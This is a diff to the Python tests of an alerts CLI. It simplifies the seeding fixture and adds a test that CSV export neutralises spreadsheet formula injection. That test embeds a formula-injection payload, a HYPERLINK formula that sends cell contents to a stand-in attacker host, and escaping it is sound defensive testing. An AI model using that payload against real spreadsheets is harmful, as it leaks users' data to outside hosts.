@@ -17,12 +17,6 @@ from edge.store import AlertStore, NewAlert
 from haad.cli.alerts import app as alerts_app
 from haad.cli.alerts import parse_time
 
-
-def insert(store: AlertStore, alerts: list[NewAlert]) -> list[int]:
-    """New rows for ``alerts``, through the write path the worker uses."""
-    return store.write_alerts([(None, a) for a in alerts])
-
-
 MakeAlert = Callable[..., NewAlert]  # the make_alert fixture
 runner = CliRunner()
 
@@ -42,8 +36,7 @@ def seeded(store_url: str, make_alert: MakeAlert) -> tuple[str, list[int]]:
     """Three alerts: cam1/assembly 3 h ago (closed), cam2/assembly 90 min ago, cam1/packing 30 min ago (open)."""
     now = datetime.now(UTC)
     with AlertStore(store_url) as store:
-        ids = insert(
-            store,
+        ids = store.write_alerts(
             [
                 make_alert(stream_id="cam1", profile="assembly", started_at=now - timedelta(hours=3)),
                 make_alert(stream_id="cam2", profile="assembly", started_at=now - timedelta(minutes=90), k=2),
@@ -230,3 +223,16 @@ def test_alerts_is_a_subcommand_of_haad() -> None:
     result = runner.invoke(app, ["alerts", "--help"])
     assert result.exit_code == 0
     assert all(cmd in result.output for cmd in ("list", "show", "export", "review"))
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula(
+    seeded: tuple[str, list[int]], tmp_path: Path
+) -> None:
+    url, ids = seeded
+    note = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    assert run("review", str(ids[0]), "--status", "dismissed", "--note", note, db=url).exit_code == 0
+    out = tmp_path / "alerts.csv"
+    assert run("export", "--out", str(out), db=url).exit_code == 0
+    with out.open() as f:
+        notes = {row["id"]: row["note"] for row in csv.DictReader(f)}
+    assert notes[str(ids[0])] == "'" + note
